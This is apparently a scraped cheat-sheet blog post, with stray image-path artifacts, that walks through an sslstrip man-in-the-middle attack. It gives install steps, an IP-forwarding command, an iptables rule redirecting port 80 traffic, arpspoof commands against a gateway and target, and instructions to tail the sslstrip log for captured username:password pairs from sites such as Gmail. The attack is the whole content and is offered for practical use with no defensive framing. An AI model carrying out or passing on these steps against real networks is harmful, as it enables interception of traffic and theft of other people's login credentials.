Just Like Farengi - We Like to BE PREPARED:




    * Python >= 2.4 (apt-get install python)
    * The python "twisted-web" module (apt-get install twisted-web)


    * tar zxvf sslstrip-0.5.tar.gz
    * cd sslstrip-0.5
    * (optional) sudo python ./setup.py install

Running sslstrip

    * Flip your machine into forwarding mode. (echo "1" > /proc/sys/net/ipv4/ip_forward)* Setup iptables to redirect HTTP traffic to sslstrip.
(iptables -t nat -A PREROUTING -p tcp --destination-port 80 -j REDIRECT --to-port )
    * Run sslstrip. (sslstrip.py -l )* Run arpspoof to convince a network they should send their traffic to you. (arpspoof -i  -t  )

Thanks to Moxie MarlinSpike


STEP X STEP (for those who need it slower):

# Proxy Preparation

    * First verify routing and nat;

    # cat /proc/sys/net/ipv4/ip_forward

    * 0

    # echo 1 > /proc/sys/net/ipv4/ip_forward

    # cat /proc/sys/net/ipv4/ip_forward

    *1

    # /sbin/iptables -t nat -A PREROUTING -p tcp --destination-port 80 -j REDIRECT --to-port 8080

# Start MITM

    * Arpspoof addresses todefault interface gateway(and target machine)

     # arpspoof -i eth0 -t

# SSL Strip

    * Start SSLStrip:

    # ./sslstrip -l 8080

* Open Browser  -  Go Login to SSL https://Gmail.com (for instance)

# tail -fsslstrip.log

You will log the name:password pairs for each site visited from the proxy.

As you can see, the default gateway and target machine can be seasoned to taste.

./sslstrip -h---end SHEETCHEAT